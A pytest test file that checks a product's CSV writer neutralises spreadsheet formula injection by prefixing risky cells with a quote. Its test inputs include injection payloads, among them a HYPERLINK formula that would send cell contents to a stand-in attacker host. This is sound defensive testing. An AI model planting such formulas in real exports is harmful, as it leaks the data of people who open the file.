"""``colearn.csv_export``: the one CSV writer of the product quotes every text cell a
spreadsheet would run as a formula, and leaves numbers as numbers."""

from __future__ import annotations

import csv
import io

import pytest

from colearn.csv_export import csv_text, spreadsheet_cell


@pytest.mark.parametrize("text", ['=HYPERLINK("https://evil.example/?x="&A1,"Open report")', "=1+2", "+cmd",
                                  "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "- item"])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text
    written = csv_text(["name"], [{"name": text}])
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["name"], ["'" + text]]


@pytest.mark.parametrize("text", ["a\r=1+2", "a\n=1+2", "a\r\n@SUM(A1)"])
def test_a_line_break_inside_a_cell_is_quoted_so_no_line_starts_a_formula(text: str) -> None:
    """RFC 4180 line ends (CRLF): the csv module then quotes a cell holding either
    character, so a reader never splits the cell and never sees ``=1+2`` as a cell."""
    written = csv_text(["name"], [{"name": text}])
    assert written == f'name\r\n"{text}"\r\n'
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["name"], [text]]


@pytest.mark.parametrize("value", [-3, 2.5, -0.25, 0, "-3", "+1.5", "-1e3", "Caf\u00e9 = bar", "a-b", "", "'=x",
                                   " =1"])
def test_numbers_and_plain_text_are_written_as_they_are(value: object) -> None:
    assert spreadsheet_cell(value) == value
    rows = list(csv.reader(io.StringIO(csv_text(["v"], [{"v": value}]), newline="")))
    assert rows == [["v"], [str(value)]]


def test_a_missing_or_none_value_is_an_empty_cell_and_the_header_is_always_there() -> None:
    assert csv_text(["a", "b"], [{"a": None}, {}]) == "a,b\r\n,\r\n,\r\n"
    assert csv_text(["a", "b"], []) == "a,b\r\n"
